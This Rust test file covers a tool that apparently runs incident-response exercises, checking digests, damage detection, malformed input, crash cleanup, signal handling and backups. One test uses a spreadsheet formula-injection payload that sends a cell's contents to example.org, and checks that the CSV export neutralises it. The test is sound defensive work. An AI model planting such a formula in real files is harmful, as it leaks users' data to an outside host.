//! What is written can be told from what has become of it, and files from elsewhere do no harm.

use std::fs;
use std::path::Path;

use hotwash::scenario::built_in_scenarios;

use crate::support::{folder, hotwash, repository, stderr, stdout};

fn run(desk: &Path, args: &[&str]) -> String {
    let output = hotwash(desk, args);
    assert!(output.status.success(), "{args:?}: {}", stderr(&output));
    stdout(&output)
}

/// A run of a few weeks in a folder.
fn recorded(desk: &Path) {
    let until = ["--until", "2015-12-08T12:00", "--quiet"];
    run(desk, &[&["run", "orbital_hotline", "--out", "run"][..], &until].concat());
    run(desk, &[&["run", "orbital_hotline", "--seed", "2", "--out", "other"][..], &until].concat());
}

#[test]
fn every_file_of_a_run_has_a_digest_and_a_flipped_bit_is_named() {
    let desk = folder();
    recorded(desk.path());
    let sums = fs::read_to_string(desk.path().join("run/SHA256SUMS")).expect("the digests");
    let mut names = 0;
    for entry in fs::read_dir(desk.path().join("run")).expect("the folder") {
        let path = entry.expect("an entry").path();
        let name = path.file_name().expect("a name").to_string_lossy().into_owned();
        let listed = name == "SHA256SUMS" || sums.contains(&format!("  {name}\n"));
        assert!(listed, "{name} has a digest");
        let before = fs::read(&path).expect("a file");
        let mut flipped = before.clone();
        flipped[before.len() / 2] ^= 2;
        fs::write(&path, &flipped).expect("a file");
        let output = hotwash(desk.path(), &["compare", "run", "other"]);
        let told = stderr(&output);
        assert_eq!(output.status.code(), Some(2), "{name}: {told}");
        let is_named = told.contains(&name) || (name == "SHA256SUMS" && told.contains("run/"));
        assert!(is_named, "{name}: {told}");
        fs::write(&path, before).expect("a file");
        names += 1;
    }
    assert!(names > 14, "{names} files");
    run(desk.path(), &["compare", "run", "other"]);
}

#[test]
fn a_run_of_every_scenario_is_found_again_in_its_folder_and_in_a_store() {
    let desk = folder();
    for name in &built_in_scenarios() {
        let record = format!("--record={name}");
        let kept = ["--out", name, &record, "--store", "s.db", "--seed", "3", "--quiet"];
        run(desk.path(), &[&["run", name][..], &kept].concat());
        // Only what is the same once more has a report.
        let file = format!("{name}.md");
        run(desk.path(), &["report", name, "--format", "md", "--out", &file]);
        let report = fs::read_to_string(desk.path().join(file)).expect("the report");
        assert!(report.len() > 5_000, "{name}: {report}");
        run(
            desk.path(),
            &["export", name, "--store", "s.db", "--format", "tables", "--out", "again"],
        );
        let tables = ["events", "requests", "responses", "injects"];
        for file in tables.map(|table| format!("{table}.csv")) {
            let at =
                |folder: &str| fs::read(desk.path().join(folder).join(&file)).expect("a table");
            assert_eq!(at(name), at("again"), "{name}: {file}");
        }
        fs::remove_dir_all(desk.path().join("again")).expect("it is there");
    }
}

#[test]
fn an_export_with_another_name_or_other_digests_is_told() {
    let desk = folder();
    recorded(desk.path());
    let text = fs::read_to_string(desk.path().join("run/session.json")).expect("a session");
    let chain = text.split("\"chain\": \"").nth(1).expect("digests");
    let first = &chain[..1];
    let other = if first == "0" { "1" } else { "0" };
    for (from, to) in [
        ("\"name\": \"orb", "\"name\": \"nrb".to_owned()),
        (&format!("\"chain\": \"{first}")[..], format!("\"chain\": \"{other}")),
    ] {
        let changed = text.replacen(from, &to, 1);
        assert_ne!(changed, text, "{from}");
        fs::write(desk.path().join("changed.json"), changed).expect("a file");
        let args = ["sessions", "import", "changed.json", "--store", "s.sqlite"];
        let output = hotwash(desk.path(), &args);
        assert_eq!(output.status.code(), Some(2), "{from}");
        assert!(stderr(&output).contains("damaged"), "{from}: {}", stderr(&output));
    }
}

#[test]
fn a_workbook_that_says_more_than_it_holds_and_a_line_without_an_end_do_no_harm() {
    let desk = folder();
    let book = repository().join("tests/exchange/shared_strings.xlsx");
    let output = hotwash(desk.path(), &["import", &book.display().to_string()]);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(stderr(&output).contains("more than it can"), "{}", stderr(&output));
    let long = format!("Scenario(format: 1, title: \"{}\", nonsense: 1)", "x".repeat(70_000));
    fs::write(desk.path().join("long.ron"), long).expect("a file");
    for command in ["check", "run", "graph"] {
        let output = hotwash(desk.path(), &[command, "long.ron"]);
        let told = stderr(&output);
        assert!(output.status.code().is_some_and(|code| code != 101), "{command}: {told}");
        assert!(told.contains("long.ron:1:"), "{command}: {}", &told[..told.len().min(500)]);
        assert!(!told.contains("panicked"), "{command}");
    }
}

#[test]
fn what_a_spreadsheet_would_compute_stays_a_text_and_comes_back_as_it_was() {
    let desk = folder();
    let text = "=HYPERLINK(\"http://example.org/?\"&A1)";
    let path = repository().join("scenarios/orbital_hotline.ron");
    let scenario = fs::read_to_string(path).expect("the scenario");
    let (above, injects) = scenario.split_once("injects: {").expect("injects");
    let (titles, texts) = injects.split_once("text: {").expect("a text");
    let (before, after) = texts.split_once("\"en\": \"").expect("it in English");
    let text = text.escape_default();
    let changed = format!("{above}injects: {{{titles}text: {{{before}\"en\": \"{text}. {after}");
    fs::write(desk.path().join("mine.ron"), changed).expect("a scenario");
    run(desk.path(), &["export", "mine.ron", "--format", "msel-csv", "--out", "msel.csv"]);
    let table = fs::read_to_string(desk.path().join("msel.csv")).expect("a table");
    assert!(table.contains("'=HYPERLINK"), "{table}");
    run(desk.path(), &["import", "msel.csv", "--as", "mine.ron", "--out", "back.ron"]);
    let back = fs::read_to_string(desk.path().join("back.ron")).expect("a scenario");
    assert!(back.contains("=HYPERLINK") && !back.contains("'=HYPERLINK"), "{back}");
}

#[test]
fn whoever_was_killed_leaves_nothing_and_what_was_put_aside_comes_back() {
    let desk = folder();
    recorded(desk.path());
    let at = |name: &str| desk.path().join(name);
    // As a kill leaves it: a folder in the making, and one that was put aside for it.
    fs::create_dir(at(".hotwash-x")).expect("a folder");
    fs::write(at(".hotwash-x/.lock"), "").expect("a file");
    fs::create_dir(at(".hotwash-old-y")).expect("a folder");
    fs::write(at(".hotwash-old-y/.lock"), "").expect("a file");
    fs::rename(at("run"), at(".hotwash-old-y/run")).expect("it is put aside");
    // One where somebody is at work stays.
    fs::create_dir(at(".hotwash-z")).expect("a folder");
    let held = fs::File::create(at(".hotwash-z/.lock")).expect("a file");
    held.lock().expect("it is at work");
    run(
        desk.path(),
        &["run", "orbital_hotline", "--until", "2015-12-08T12:00", "--out", "new", "--quiet"],
    );
    assert!(!at(".hotwash-x").exists() && !at(".hotwash-old-y").exists());
    assert!(at(".hotwash-z").exists());
    run(desk.path(), &["compare", "run", "other"]);
}

#[cfg(unix)]
#[test]
fn a_signal_ends_an_exercise_in_order() {
    use std::io::{BufRead, BufReader, Write};
    use std::process::{Command, Stdio};
    let desk = folder();
    for (number, signal) in ["-TERM", "-HUP", "-INT"].into_iter().enumerate() {
        for command in ["conduct", "host"] {
            let name = format!("{command}{number}");
            let listen = ["--listen", "127.0.0.1:0", "--no-open"];
            let mut child = Command::new(env!("CARGO_BIN_EXE_hotwash"))
                .args([command, "orbital_hotline", "--name", &name, "--store", "s.sqlite"])
                .args(if command == "host" { &listen[..] } else { &[] })
                .current_dir(desk.path())
                .env("NO_COLOR", "1")
                .stdin(Stdio::piped())
                .stdout(Stdio::piped())
                .spawn()
                .expect("the program starts");
            let mut stdin = child.stdin.take().expect("its input");
            if command == "conduct" {
                writeln!(stdin, "jump +1d\nnote Here it was.").expect("it is read");
            }
            let mut out = BufReader::new(child.stdout.take().expect("its output"));
            let awaited = if command == "host" { "Ctrl-C" } else { "Here it was" };
            let mut said = String::new();
            while !said.contains(awaited) {
                assert!(out.read_line(&mut said).expect("text") > 0, "{signal}: it ended: {said}");
            }
            let told = Command::new("kill").args([signal, &child.id().to_string()]).status();
            assert!(told.expect("it is told").success());
            std::io::Read::read_to_string(&mut out, &mut said).expect("text");
            let ended = child.wait().expect("it ends by itself");
            assert!(ended.success(), "{signal} {command}: {ended}: {said}");
            assert!(said.contains(&format!("--resume {name}")), "{signal} {command}: {said}");
            let verified =
                hotwash(desk.path(), &["replay", &name, "--verify", "--store", "s.sqlite"]);
            assert!(stdout(&verified).contains("The same"), "{signal}: {}", stdout(&verified));
        }
    }
}

#[test]
fn a_backup_is_made_while_somebody_is_at_the_store() {
    let desk = folder();
    run(
        desk.path(),
        &["run", "orbital_hotline", "--record=monday", "--no-out", "--quiet", "--store", "s"],
    );
    let open = hotwash::session::Store::open(&desk.path().join("s")).expect("somebody is at it");
    run(desk.path(), &["sessions", "backup", "b", "--store", "s"]);
    assert!(run(desk.path(), &["sessions", "--store", "b"]).contains("monday"));
    let refused = hotwash(desk.path(), &["sessions", "backup", "b", "--store", "s"]);
    assert_eq!(refused.status.code(), Some(2), "what is there is not replaced by accident");
    run(desk.path(), &["sessions", "backup", "b", "--force", "--store", "s"]);
    assert!(
        run(desk.path(), &["replay", "monday", "--verify", "--store", "b"]).contains("The same")
    );
    drop(open);
}
